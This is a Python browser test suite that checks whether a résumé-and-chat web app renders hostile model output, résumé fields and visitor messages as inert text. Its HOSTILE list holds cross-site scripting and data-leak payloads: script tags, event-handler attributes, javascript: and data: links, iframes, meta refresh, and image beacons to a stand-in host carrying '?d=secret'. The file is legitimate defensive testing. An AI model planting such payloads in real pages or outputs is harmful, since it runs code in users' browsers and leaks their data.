"""What a model, a résumé and a visitor may write so that a page calls out or runs something: it is shown as words."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from playwright.async_api import expect

from doubles.model_server import ModelServer
from doubles.replies import Reply
from e2e.conftest import Visit
from e2e.installation import Installation
from e2e.owner import claim
from e2e.public_page import PublicPage
from kairix_infra.settings import SAMPLE_RESUME

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

AWAY, RUN = "https://canary.invalid/", "window.ran=1"
HOSTILE = (
    f"![x]({AWAY}inline?d=secret)",
    f"![x][there]\n\n[there]: {AWAY}reference",
    f"[![x]({AWAY}linked)](javascript:{RUN})",
    f'<img src="{AWAY}html" onerror="{RUN}">',
    f"<svg onload='{RUN}'><image href='{AWAY}svg'/></svg>",
    f'<div style="background:url({AWAY}css)">x</div><style>@import "{AWAY}import";</style>',
    f"<script>{RUN}</script><script src='{AWAY}script'></script>",
    f"<iframe src='{AWAY}frame'></iframe><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<video poster='{AWAY}poster' src='{AWAY}video'></video><link rel=prefetch href='{AWAY}prefetch'>",
    f"<meta http-equiv=refresh content='0;url={AWAY}refresh'><base href='{AWAY}base/'>",
    f"<form action='{AWAY}form'><button autofocus onfocus='{RUN}'>x</button></form>",
    f"[click](javascript:{RUN}) [click](JaVaScRiPt:{RUN}) [click](data:text/html,<script>{RUN}</script>)",
    f"[click](vbscript:{RUN}) <javascript:{RUN}> [click](//canary.invalid/relative)",
    f"```mermaid\nclick A href '{AWAY}mermaid'\n```\n\n$\\includegraphics{{{AWAY}katex}}$",
    f"| a |\n|---|\n| ![x]({AWAY}table) |\n\n[^1]\n\n[^1]: ![x]({AWAY}footnote)",
    f"{AWAY}preview and www.canary.invalid",
    f"{'>' * 5_000} ![x]({AWAY}deep)",
    "x" * 100_000,
)
WORDS = "\n\n".join((*HOSTILE, "The end."))
#: What a visitor may write in one message.
LETTER = "\n\n".join(HOSTILE[:-2])
DANGEROUS = (
    "a[href^='javascript' i], a[href^='data' i], a[href^='vbscript' i], [onerror], [onload], [onfocus], iframe[src]"
)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Installation]:
    folder = tmp_path_factory.mktemp("attacked")
    resume = json.loads(SAMPLE_RESUME.read_bytes())
    resume["basics"]["summary"] = LETTER
    resume["work"][0]["highlights"] = list(HOSTILE[:-2])
    (folder / "resume.json").write_text(json.dumps(resume), encoding="utf-8")
    steps = tuple(WORDS[start : start + 2_000] for start in range(0, len(WORDS), 2_000))
    with ModelServer(lambda _: Reply(steps)) as model:
        speaking = {"ANTHROPIC_BASE_URL": model.url, "ANTHROPIC_API_KEY": "local", "LLM_MODEL": "hostile"}
        installation = Installation(folder / "home", {"RESUME_PATH": str(folder / "resume.json"), **speaking})
        installation.start()
        claim(installation, "Linnéa Okafor")
        yield installation
        installation.stop()


async def is_harmless(here: PublicPage) -> None:
    """Where a page called, and what it complained of, is looked at when it is closed."""
    assert await here.page.evaluate("window.ran") is None
    assert await here.page.locator(DANGEROUS).count() == 0


async def test_an_answer_and_a_resume_are_words(attacked: Installation, visit: Visit) -> None:
    here = await visit(attacked)
    await here.ask(LETTER[:1_500])
    await here.has_status("complete")
    await expect(here.answer).to_contain_text("The end.")
    await is_harmless(here)
    await is_harmless(await visit(attacked, "/@linnea-okafor/resume"))


async def test_what_visitors_leave_is_words_to_its_owner(attacked: Installation, visit: Visit) -> None:
    letter = {"name": HOSTILE[3], "email": "eve@example.org", "text": LETTER[:3_000]}
    with attacked.visitor() as visitor:
        visitor.http.post("/api/representatives/linnea-okafor/messages", json=letter).raise_for_status()
        visitor.ask(LETTER[:1_500]).raise_for_status()
    places = {"/inbox/messages": AWAY, f"/inbox/conversations?conversation={visitor.conversation}": "The end."}
    for path, words in places.items():
        owner = await visit(attacked, path, as_owner=True)
        await expect(owner.page.get_by_text(words).last).to_be_attached()
        await is_harmless(owner)
